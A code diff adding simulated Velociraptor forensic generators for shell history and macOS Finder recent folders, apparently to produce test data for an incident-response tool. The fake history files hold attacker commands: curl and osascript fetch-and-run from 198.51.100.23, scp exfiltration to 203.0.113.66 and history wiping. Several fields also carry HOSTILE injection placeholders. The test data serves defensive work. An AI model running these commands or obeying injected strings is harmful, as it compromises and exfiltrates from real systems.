@@ -167,6 +167,113 @@ const chrome: Gen = (_c, rng, _e, _d, now) => [
   { User: 'alice', url: 'https://pastebin.example/raw/x7Yq', title: HOSTILE.prompt, visit_count: 1, typed_count: 1, last_visit_time: iso(now - rng.int(600, 6000) * 60_000) },
 ];
 
+/** A Velociraptor-style glob (`*`, `**`, `?`, `{a,b}`) as an anchored RegExp over '/'-separated paths. */
+export function globRegex(glob: string): RegExp {
+  let out = '';
+  let inBrace = false;
+  for (let i = 0; i < glob.length; i++) {
+    const ch = glob[i]!;
+    if (ch === '*' && glob[i + 1] === '*') {
+      out += '.*';
+      i++;
+    } else if (ch === '*') out += '[^/]*';
+    else if (ch === '?') out += '[^/]';
+    else if (ch === '{' && !inBrace) {
+      out += '(?:';
+      inBrace = true;
+    } else if (ch === '}' && inBrace) {
+      out += ')';
+      inBrace = false;
+    } else if (ch === ',' && inBrace) out += '|';
+    else out += ch.replace(/[.+^$()|[\]\\]/g, '\\$&');
+  }
+  return new RegExp(`^${out}${inBrace ? ')' : ''}$`);
+}
+
+/** A regex parameter as Velociraptor applies it (case-insensitive); an invalid one matches nothing. */
+function paramRegex(text: string): RegExp | null {
+  try {
+    return new RegExp(text, 'i');
+  } catch {
+    return null;
+  }
+}
+
+/** Shell history files per OS (path → lines); the default TargetGlob reaches the Linux ones only. */
+const HISTORY_FILES: Record<ClientRecord['os'], Array<[string, string[]]>> = {
+  windows: [],
+  linux: [
+    ['/root/.bash_history', [
+      'apt update && apt -y upgrade',
+      'systemctl status velociraptor_client',
+      'cd /tmp/.X11-unix/.x && curl -fsSL http://198.51.100.23/k -o kworker && chmod +x kworker && ./kworker',
+      'history -c',
+      'unset HISTFILE',
+    ]],
+    ['/home/deploy/.bash_history', [
+      'git pull origin main',
+      'sudo systemctl restart nginx',
+      `echo '${HOSTILE.prompt}' > /var/www/html/notes.txt`,
+      'scp backup.tar.gz deploy@203.0.113.66:/srv/drop/',
+      `printf '%s\\n' '${HOSTILE.csv}' >> /tmp/report.csv`,
+    ]],
+    ['/home/deploy/.python_history', ['import os', "os.system('id')", `print("${HOSTILE.script}")`]],
+  ],
+  darwin: [
+    ['/Users/alice/.zsh_history', [': 1732600000:0;brew update', ': 1732600100:0;osascript -e \'do shell script "curl -s http://198.51.100.23/a | sh"\'', `: 1732600200:0;echo "${HOSTILE.img}"`]],
+    ['/var/root/.sh_history', ['launchctl list | grep velociraptor']],
+  ],
+};
+
+/** Linux.Sys.BashHistory: `Line, OSPath` per matching line of the globbed files (SearchRegex, minus WhitelistRegex). */
+const bashHistory: Gen = (c, _rng, env, def) => {
+  const glob = globRegex(paramText(def, env, 'TargetGlob', ''));
+  const search = paramRegex(paramText(def, env, 'SearchRegex', '.'));
+  const whitelistText = paramText(def, env, 'WhitelistRegex', '');
+  const whitelist = whitelistText ? paramRegex(whitelistText) : null;
+  if (!search || (whitelistText && !whitelist)) return [];
+  const rows: Array<Record<string, unknown>> = [];
+  for (const [path, lines] of HISTORY_FILES[c.os]) {
+    if (!glob.test(path)) continue;
+    for (const line of lines) if (search.test(line) && !whitelist?.test(line)) rows.push({ Line: line, OSPath: path });
+  }
+  return rows;
+};
+
+/** Finder recent folders per macOS user: folder name and target path components. */
+const RECENT_FOLDERS: Array<{ user: string; uid: number; name: string; path: string[] }> = [
+  { user: 'alice', uid: 501, name: 'Downloads', path: ['Users', 'alice', 'Downloads'] },
+  { user: 'alice', uid: 501, name: 'Invoices 2024', path: ['Users', 'alice', 'Documents', 'Invoices 2024'] },
+  { user: 'alice', uid: 501, name: HOSTILE.img, path: ['Users', 'alice', '.local', 'bin'] },
+  { user: 'bob', uid: 502, name: 'exfil', path: ['Volumes', 'USB-STICK', 'exfil'] },
+  { user: 'bob', uid: 502, name: HOSTILE.prompt, path: ['Users', 'bob', 'Desktop', 'read me'] },
+];
+
+/**
+ * MacOS.Applications.MRU: one row per bookmark field (ParseBookmark's Name, Field, FieldID, data_type,
+ * type, data) of each FXRecentFolders entry in the globbed Finder plists, with the plist's OSPath.
+ */
+const macMru: Gen = (c, rng, env, def, now) => {
+  if (c.os !== 'darwin') return [];
+  const glob = globRegex(paramText(def, env, 'FinderPlistPath', ''));
+  const rows: Array<Record<string, unknown>> = [];
+  for (const f of RECENT_FOLDERS) {
+    const plist = `/Users/${f.user}/Library/Preferences/com.apple.finder.plist`;
+    if (!glob.test(plist)) continue;
+    const field = (FieldID: string, Field: string, data_type: string, type: string, data: unknown) => ({ Name: f.name, Field, FieldID, data_type, type, data, OSPath: plist });
+    rows.push(
+      field('0x1004', 'Target Path', '0x600', 'Array', f.path),
+      field('0x1005', 'Target CNID Path', '0x600', 'Array', f.path.map(() => rng.int(2, 9_000_000))),
+      field('0x1040', 'Target Creation Date', '0x400', 'Date', iso(now - rng.int(24, 9000) * 3_600_000)),
+      field('0x2002', 'Volume Path', '0x900', 'URL', f.path[0] === 'Volumes' ? `file:///Volumes/${f.path[1]}/` : 'file:///'),
+      field('0x2011', 'Volume UUID', '0x100', 'String', `${rng.hex(8)}-${rng.hex(4)}-${rng.hex(4)}-${rng.hex(4)}-${rng.hex(12)}`.toUpperCase()),
+      field('0xc011', 'Creator Username', '0x100', 'String', f.user),
+      field('0xc012', 'Creator UID', '0x300', 'Uint32', f.uid),
+    );
+  }
+  return rows;
+};
+
 function findFiles(c: ClientRecord, rng: Rng, glob: string, now: number): Array<Record<string, unknown>> {
   const base = c.os === 'windows' ? ['C:\\Users\\alice\\Downloads\\invoice_2024.pdf.exe', 'C:\\Users\\Public\\update.dll', 'C:\\Users\\alice\\AppData\\Roaming\\notes.txt'] : c.os === 'linux' ? ['/tmp/.X11-unix/.x/kworker', '/home/deploy/.bash_history', '/var/www/html/shell.php'] : ['/Users/alice/.local/bin/updater', '/Users/alice/Downloads/Invoice.pdf.app', '/Users/alice/Documents/notes.txt'];
   return base.map((path) => ({
@@ -313,6 +420,8 @@ const GENERATORS: Record<string, Gen> = {
   'Windows.Sys.Users': users,
   'Linux.Sys.Users': users,
   'MacOS.System.Users': users,
+  'Linux.Sys.BashHistory': bashHistory,
+  'MacOS.Applications.MRU': macMru,
   'Linux.Sys.LastUserLogin': logons,
   'Windows.EventLogs.RDPAuth': logons,
   'Windows.Applications.Chrome.History': chrome,
